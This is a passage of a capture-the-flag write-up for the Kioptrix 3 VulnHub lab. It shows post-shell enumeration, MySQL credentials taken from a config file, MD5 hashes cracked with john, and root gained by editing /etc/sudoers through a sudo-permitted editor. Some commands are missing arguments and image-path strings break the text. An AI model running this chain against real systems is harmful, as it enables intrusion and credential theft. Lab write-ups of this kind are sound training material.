www-data@Kioptrix3:/$ which wgetwhich wget
www-data@Kioptrix3:/$ cd /tmp
cd /tmp
www-data@Kioptrix3:/tmp$ mkdir lol
mkdir lol
www-data@Kioptrix3:/tmp$ cd lol
cd lol
www-data@Kioptrix3:/tmp/lol$ wget
           => `'
Connecting to connected.
HTTP request sent, awaiting response... 200 OK
Length: 46,631 (46K)[text/x-sh]

 0% [                                     ] 0             --.--K/s         100%[===>] 46,631        --.--K/s

23:41:18 (336.00 MB/s) - `' saved [46631/46631]

www-data@Kioptrix3:/tmp/lol$ chmod +x && ./ >> lol.txt
chmod +x && ./ >> lol.txt
www-data@Kioptrix3:/tmp/lol$ ls -la
ls -la
total 84
drwxr-xr-x 2 www-data www-data  4096 Jul 28 23:41 .
drwxrwxrwt 5 root     root      4096 Jul 28 23:41 ..
-rwxr-xr-x 1 www-data www-data 46631 Jul 28 23:40
-rw-r--r-- 1 www-data www-data 28137 Jul 28 23:41 lol.txt

I’ll save you from the FTP commands getting the output file back to my host, anyways, let’s take a look at theinteresting findings:

Linux Kioptrix3 2.6.24-24-server

This is really old… if we look at the rest of the output we can see some information on users that have logged onto the system:

Users that have previously logged onto the system:
Username         Port     From             Latest
root             tty1                      Mon Apr 18 11:29:13 -0400 2011
loneferret       pts/1    Sat Apr 16 08:51:58 -0400 2011

This confirms our assumption from the beginning that loneferret was a valid user on the box. Cool.Active Internet connections (only servers)
Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name
tcp        0      0*               LISTEN      -
tcp6       0      0 :::80                   :::*                    LISTEN      4284/sh
tcp6       0      0 :::22                   :::*                    LISTEN      -

Looks like MySQL is listening locally, might want to check this out later.

Useful file locations:

Cool, we have gcc if we need to compile stuff. Let’s continue by checking off items from this list… Starting with the kernel verison:


~~~Trying Exploits~~~

I tried quite a few exploits, and ultimately decided to go down other avenues. I was running into dead ends, so decided to think from the beginning again…

Let’s see, where did we get dropped upon getting a shell?


Wow, did we even see if we can access other home directories?

ls -la /home
total 20
drwxr-xr-x  5 root       root       4096 Apr 16  2011 .
drwxr-xr-x 21 root       root       4096 Apr 11  2011 ..
drwxr-xr-x  2 dreg       dreg       4096 Apr 16  2011 dreg
drwxr-xr-x  3 loneferret loneferret 4096 Apr 17  2011 loneferret
drwxr-xr-x  3 root       root       4096 Apr 12  2011 www

Keep enumerating…

ls -la /home/loneferret
total 64
drwxr-xr-x 3 loneferret loneferret  4096 Apr 17  2011 .
drwxr-xr-x 5 root       root        4096 Apr 16  2011 ..
-rw-r--r-- 1 loneferret users         13 Apr 18  2011 .bash_history
-rw-r--r-- 1 loneferret loneferret   220 Apr 11  2011 .bash_logout
-rw-r--r-- 1 loneferret loneferret  2940 Apr 11  2011 .bashrc
-rw--- 1 root       root          15 Apr 15  2011 .nano_history
-rw-r--r-- 1 loneferret loneferret   586 Apr 11  2011.profile
drwx--- 2 loneferret loneferret  4096 Apr 14  2011 .ssh
-rw-r--r-- 1 loneferret loneferret     0 Apr 11  2011 .sudo_as_admin_successful
-rw-r--r-- 1 root       root         224 Apr 16  2011 CompanyPolicy.README
-rwxrwxr-x 1 root       root       26275 Jan 12  2011

Hmm… Okay, let’s take a look at CompanyPolicy.README

cat CompanyPolicy.README
Hello new employee,
It is company policy here to use our newly installed software for editing, creating and viewing files.
Please use the command 'sudo ht'.
Failure to do so will result in you immediate termination.


Dang. Unfortunately we can’t sudo since we don’t know www-data’s password.

I think it’s time to enumerate more.

Let’s look through the webapp files and see if we missed anything:

www-data@Kioptrix3:/home/www/$ ls -la
total 92
drwxr-xr-x  8 root root  4096 Apr 15  2011 .
drwxr-xr-x  3 root root  4096 Apr 12  2011 ..
drwxrwxrwx  2 root root  4096 Apr 15  2011 cache
drwxrwxrwx  8 root root  4096 Apr 14  2011 core
drwxrwxrwx  8 root root  4096 Apr 14  2011 data
-rw-r--r--  1 root root 23126 Jun  5  2009 favicon.ico
drwxr-xr-x  7 root root  4096 Apr 14  2011 gallery
-rw-r--r--  1 root root 26430 Jan 21  2007 gnu-lgpl.txt
-rw-r--r--  1 root root   399 Feb 23  2011index.php
drwxrwxrwx 10 root root  4096 Apr 14  2011 modulesdrwxrwxrwx  3 root root  4096 Apr 14  2011 style
-rw-r--r--  1 root root   243 Aug  5  2010 update.php

These are all interesting… looking through them all led me to gallery/gconfig.php, which contains:

        $GLOBALS["gallarific_mysql_server"] = "localhost";
        $GLOBALS["gallarific_mysql_database"] = "gallery";
        $GLOBALS["gallarific_mysql_username"] = "root";
        $GLOBALS["gallarific_mysql_password"] = "fuckeyou";

Cool. Let’s truy logging into /phpmyadmin/ with these.

Logging into PHP admin

Easy enough. After this I looked around through the SQL tables for a while, and eventually found some hashed user passwords in the dev_accounts table in the gallery database:

    Full Texts  id  username    password
    Edit    Delete  1   dreg        0d3eccfb887aabd50f243b3f155c0f85
    Edit    Delete  2   loneferret  5badcaf789d3d1d09794d8f021f40f0e

Let’s pipe these over to john and try to crack them:

ein@~/VulnHub/Kioptrix1.2:$ /usr/sbin/john --wordlist=rockyou.txt --format=RAW-MD5 passwords
Using default input encoding: UTF-8
Loaded 2 password hashes with no different salts (Raw-MD5 [MD5 256/256 AVX2 8x3])
fopen: rockyou.txt: No such file or directory
ein@~/VulnHub/Kioptrix1.2:$ /usr/sbin/john --wordlist=/usr/share/wordlists/rockyou.txt --format=RAW-MD5passwords
Using default input encoding: UTF-8
Loaded 2 password hashes with no different salts (Raw-MD5 [MD5 256/256 AVX2 8x3])
Press 'q' or Ctrl-C to abort, almost any other key for status
starwars         (?)
Mast3r           (?)
2g 0:00:00:00 DONE (2020-07-29 01:31) 2.380g/s 12897Kp/s 12897Kc/s 12898KC/s Maswhit002..MashPt34
Use the "--show --format=Raw-MD5" options to display all of the cracked passwords reliably
Session completed
ein@~/VulnHub/Kioptrix1.2:$ cat passwords

Nice! so we got the cleartext password for both users. I’ll start by trying to SSH as loneferret:

ein@~/VulnHub/Kioptrix1.2:$ ssh loneferret@kio3
The authenticity of host 'kio3 (' can't be established.
RSA key fingerprint is SHA256:NdsBnvaQieyTUKFzPjRpTVK6jDGM/xWwUi46IR/h1jU.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added 'kio3,' (RSA) to the list of known hosts.
loneferret@kio3's password:
Permission denied, please try again.
loneferret@kio3's password:
Permission denied, please try again.
loneferret@kio3's password:
Linux Kioptrix3 2.6.24-24-server #1 SMP Tue Jul 7 20:21:17 UTC 2009 i686

The programs included with the Ubuntu system are free software;
the exact distribution terms for each program are described in the
individual files in /usr/share/doc/*/copyright.

Ubuntu comes with ABSOLUTELY NO WARRANTY, to the extent permitted by
applicable law.To access official Ubuntu documentation, please visit:
Last login: Sat Apr 16 08:51:58 2011 from

Nice. Now let’s see if we can run ht (mentioned in the CompanyPolicy.README file we found earlier) as sudo by checking via sudo -l:

loneferret@Kioptrix3:~$ sudo -l
User loneferret may run the following commands on this host:
    (root) NOPASSWD: !/usr/bin/su
    (root) NOPASSWD:/usr/local/bin/ht

Perfect, let’s make sure our terminal is set correctly:

loneferret@Kioptrix3:~$ export TERM=xterm

Now we can use the ht text editor as root! The method I used to privesc is to edit the /etc/sudoers file and give us further permission. In this case I’ll simply give us full rights to /bin/su.Editing `/etc/sudoers/`

And now we can simply switch users to root:

loneferret@Kioptrix3:~$ sudo su
root@Kioptrix3:/home/loneferret# id
uid=0(root) gid=0(root) groups=0(root)

Nice! rooted. Let’s look at /root/Congrats.txt

root@Kioptrix3:~# cat Congrats.txt
Good for you for gettinghere.
Regardless of the matter (staying within the spirit of the game of course)
you got here, congratulations are in order. Wasn't that bad now was it.

Went in a different direction with this VM. Exploit based challenges are
nice. Helps workout that information gathering part, but sometimes we
need to get our hands dirty in other things as well.
Again, these VMs are beginner and not intented for everyone.
Difficulty is relative, keep that in mind.

The object is to learn, do some research and have a little (legal)
fun in the process.I hope you enjoyed this third challenge.

Steven McElrea
aka loneferret

Credit needs to be given to the creators of the gallery webapp and CMS used
for the building of the Kioptrix VM3 site.

Main page CMS:

Gallery application:
Gallarific 2.1 - Free Version released October 10, 2009
Vulnerable version of this application can be downloaded
from the Exploit-DB website:

The HT Editor can be found here:
And the vulnerable version on Exploit-DB here:

Also, all pictures were taken fromGoogle Images, so beingpart of the
public domain I used them.

And we’re done.